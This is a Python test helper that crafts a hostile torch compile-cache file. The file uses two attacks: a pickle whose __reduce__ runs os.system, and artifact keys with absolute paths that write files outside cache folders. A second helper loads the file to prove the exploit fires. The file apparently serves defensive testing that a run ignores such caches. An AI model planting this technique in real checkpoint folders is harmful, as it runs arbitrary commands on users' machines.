"""A hostile `compile_cache.bin`, as anyone who can write a checkpoint folder could plant it, in torch's own mega-cache
format (`torch.compiler.save_cache_artifacts`):

- an autotune artifact whose key is an absolute path: `load_cache_artifacts` writes a file there, outside every
  cache folder;
- an FX-graph artifact whose key is an absolute path and whose content is a pickle that runs a shell command
  (`__reduce__` -> `os.system`): torch writes it outside the cache, then unpickles it at once to emit its Triton
  bundle (or, where that is off, when Inductor looks the key up).

Building it runs nothing: `pickle.dumps` only records the call. `prove_it_runs` hands it to torch the way the old
fast restart did, in a fresh interpreter, so a test shows the file is live before showing that a run ignores it.
"""
from __future__ import annotations

import os
import pickle
import subprocess
import sys
from pathlib import Path


class _RunsCommand:
    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self):
        return os.system, (self.command,)


def craft(marker: Path, outside: Path) -> bytes:
    """The hostile file: loading it creates `marker` (a command ran) and files under the absolute path `outside`."""
    from torch.compiler._cache import CacheArtifactFactory, CacheArtifactManager, _serialize_single_cache
    from torch.utils._appending_byte_serializer import AppendingByteSerializer

    CacheArtifactManager._ensure_cache_artifacts_registered()
    payload = pickle.dumps(_RunsCommand(f"touch {marker}"))
    groups = [  # in this order: torch stops at the first artifact whose populate raises (the command's int result)
        ("autotune", [CacheArtifactFactory.create("autotune", str(outside / "autotune-file"), payload)]),
        ("inductor", [CacheArtifactFactory.create("inductor", str(outside / LOOKUP_KEY), payload)]),
    ]
    serializer = AppendingByteSerializer(serialize_fn=_serialize_single_cache)
    serializer.extend(groups)
    return serializer.to_bytes()


LOOKUP_KEY = "fcraftedkeyfortheloadcheck"
PROOF = """
import sys, torch
from torch._inductor.codecache import FxGraphCache
try:
    torch.compiler.load_cache_artifacts(open(sys.argv[1], "rb").read())
finally:  # what Inductor does when a compile looks the key up: every entry under it is unpickled
    list(FxGraphCache.iterate_over_candidates(True, None, sys.argv[2]))
"""


def prove_it_runs(crafted: Path, outside: Path, inductor_dir: Path) -> None:
    """Hand `crafted` to torch as the old fast restart did (load, then Inductor's lookup), in a fresh interpreter."""
    env = {**os.environ, "TORCHINDUCTOR_CACHE_DIR": str(inductor_dir)}
    subprocess.run([sys.executable, "-c", PROOF, str(crafted), str(outside / LOOKUP_KEY)], env=env, check=False,
                   capture_output=True, timeout=300)
